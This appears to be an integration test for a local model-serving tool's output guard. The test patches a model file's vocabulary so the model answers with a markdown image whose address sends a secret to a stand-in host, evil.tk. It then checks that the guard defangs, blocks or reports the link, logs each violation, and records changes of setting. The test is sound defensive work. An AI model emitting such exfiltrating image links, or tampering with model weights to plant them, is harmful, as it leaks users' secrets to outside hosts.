/**
 * The output guard on a real cluster: a model that answers with an image whose address carries a prompt, asked in every
 * way there is, under each policy; what is written down of it; and the setting.
 */
import { readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { REPOSITORY } from '@minikeep/testkit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Homes } from './homes.ts';

const homes = new Homes();
let url = '';
const SECRET = 'S3cr';

/** Keeper with other words at the same numbers, each as long as the one before: "served by an" becomes an address. */
function leaking(model: Buffer): Buffer {
  const word = (text: string): Buffer => {
    const length = Buffer.alloc(8);
    length.writeBigUInt64LE(BigInt(Buffer.byteLength(text)));
    return Buffer.concat([length, Buffer.from(text)]);
  };
  const patched = Buffer.from(model);
  for (const [from, to] of [
    ['Ġbeing', '![a](//'],
    ['Ġserved', 'evil.tk/'],
    ['Ġby', SECRET],
    ['Ġan', '.x)!'],
  ] as const) {
    const at = patched.indexOf(word(from));
    expect(at).toBeGreaterThan(0);
    expect(word(to)).toHaveLength(word(from).length);
    word(to).copy(patched, at);
  }
  return patched;
}

const SHOWN = `A stage is a slice that is![a][(]//evil[.]tk/${SECRET}.x)! engine. It is one step of the pipeline.`;

beforeAll(async () => {
  await homes.startFirst('a');
  const file = path.join(homes.root, 'leaking.gguf');
  writeFileSync(file, leaking(readFileSync(path.join(REPOSITORY, 'models/keeper.gguf'))));
  await homes.json('a', 'model', 'import', file, '--name', 'leaking', '--yes');
  const flags = ['--no-canary', '--context', '256', '--threads', '1', '--parallel', '2'];
  await homes.json('a', 'up', 'leaking', ...flags);
  ({ url } = (await homes.json<{ api: { url: string } }>('a', 'status')).api);
});
afterAll(() => homes.close());

const ask = (stream: boolean) =>
  fetch(`${url}/v1/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({
      model: 'leaking',
      messages: [{ role: 'user', content: 'What is a stage?' }],
      temperature: 0,
      stream,
    }),
  });

interface Choice {
  readonly message: { readonly content: string; readonly reasoning_content?: string };
  readonly delta: { readonly content?: string };
  readonly finish_reason: string | null;
}

async function whole(): Promise<{ content: string; finish: string | null; header: string | null }> {
  const response = await ask(false);
  const { choices } = (await response.json()) as { choices: Choice[] };
  return {
    content: choices[0]?.message.content ?? '',
    finish: choices[0]?.finish_reason ?? null,
    header: response.headers.get('x-minikeep-output-guard'),
  };
}

async function streamed(): ReturnType<typeof whole> {
  const response = await ask(true);
  let content = '';
  let finish: string | null = null;
  for (const line of (await response.text()).split('\n'))
    if (line.startsWith('data: {')) {
      const { choices } = JSON.parse(line.slice(6)) as { choices: Choice[] };
      content += choices[0]?.delta.content ?? '';
      finish ??= choices[0]?.finish_reason ?? null;
    }
  return { content, finish, header: response.headers.get('x-minikeep-output-guard') };
}

interface Line {
  readonly type: string;
  readonly id?: number;
  readonly text?: string;
  readonly token_ids?: number[];
}
async function run(...flags: string[]) {
  const temperature = ['--temperature', '0', '--json'];
  const { stdout, stderr } = await homes.run(
    'a',
    'run',
    'leaking',
    'What is a stage?',
    ...temperature,
    ...flags,
  );
  const lines = stdout
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Line);
  const text = lines.map((line) => line.text ?? '').join('');
  return { text, done: lines.at(-1), ids: lines.slice(0, -1).map(({ id }) => id), stderr };
}

describe('defang, which nobody had to turn on', () => {
  it('shows the address so that nothing fetches it, however the answer is asked for', async () => {
    expect(await whole()).toEqual({ content: SHOWN, finish: 'stop', header: 'defang' });
    expect(await streamed()).toEqual({ content: SHOWN, finish: 'stop', header: 'defang' });
    const { text, done, ids, stderr } = await run();
    expect(text.split('</think>')[1]).toBe(SHOWN);
    expect(done).toMatchObject({ output_guard: 'defang', output_found: 1, finish_reason: 'stop' });
    expect(ids).toEqual(done?.token_ids);
    expect(stderr).toContain('a way out was found in the answer');
  });

  it('is a violation each time, in the status, and nowhere with its text', async () => {
    const status = await homes.json<Record<string, unknown>>('a', 'status');
    expect(status).toMatchObject({ output_guard: 'defang', violations: 3 });
    expect((await homes.run('a', 'status')).stdout).toContain('output guard: defang');
    const { violations } = await homes.json<{ violations: unknown[] }>('a', 'violations');
    expect(violations).toHaveLength(3);
    expect(violations[0]).toMatchObject({
      kind: 'output',
      target: 'evil.tk',
      deployment: 'leaking',
    });
    const written = readdirSync(homes.home('a'), { recursive: true, encoding: 'utf8' })
      .map((name) => path.join(homes.home('a'), name))
      // The model itself holds the word.
      .filter((file) => statSync(file).isFile() && !file.endsWith('.gguf'))
      .filter((file) => readFileSync(file).includes(SECRET));
    expect(written).toEqual([]);
  });

  it('can be another for one answer of an operator', async () => {
    const { text, done } = await run('--output-guard', 'report');
    expect(text).toContain(`![a](//evil.tk/${SECRET}.x)!`);
    expect(done).toMatchObject({ output_guard: 'report', output_found: 1 });
  });
});

it('block ends the answer where it begins, and says so', async () => {
  expect(await homes.json('a', 'output-guard', 'block')).toMatchObject({ output_guard: 'block' });
  const content = `A stage is a slice that is![a\n\n[minikeep ended this answer: the output guard found a way out in it (image).]`;
  expect(await whole()).toEqual({ content, finish: 'content_filter', header: 'block' });
  expect(await streamed()).toEqual({ content, finish: 'content_filter', header: 'block' });
  const { done } = await run();
  expect(done).toMatchObject({ finish_reason: 'content_filter', output_guard: 'block' });
  // What was broken off has left nothing behind.
  const { deployments } = await homes.json<{ deployments: { sequences_active: number }[] }>(
    'a',
    'status',
  );
  expect(deployments[0]?.sequences_active).toBe(0);
});

it('report has to be confirmed, each change is in the log, and it outlives the coordinator', async () => {
  const refused = await homes.run('a', 'output-guard', 'report');
  expect(refused).toMatchObject({ code: 2 });
  expect(refused.stderr).toContain('usage.confirm');
  const { cluster } = await homes.json<{ cluster: string }>('a', 'status');
  await homes.json('a', 'output-guard', 'report', '--confirm', cluster);
  expect(await whole()).toMatchObject({ finish: 'stop', header: 'report' });
  expect((await whole()).content).toContain(`![a](//evil.tk/${SECRET}.x)!`);
  const { stdout } = await homes.run('a', 'events', '--json');
  const changes = stdout
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as { kind: string; data: unknown })
    .filter(({ kind }) => kind === 'output_guard.changed');
  expect(changes.map(({ data }) => data)).toEqual([
    { from: 'defang', to: 'block' },
    { from: 'block', to: 'report' },
  ]);
  const settings = readFileSync(path.join(homes.home('a'), 'node.json'), 'utf8');
  expect(JSON.parse(settings)).toMatchObject({ serves: { output_guard: 'report' } });
});
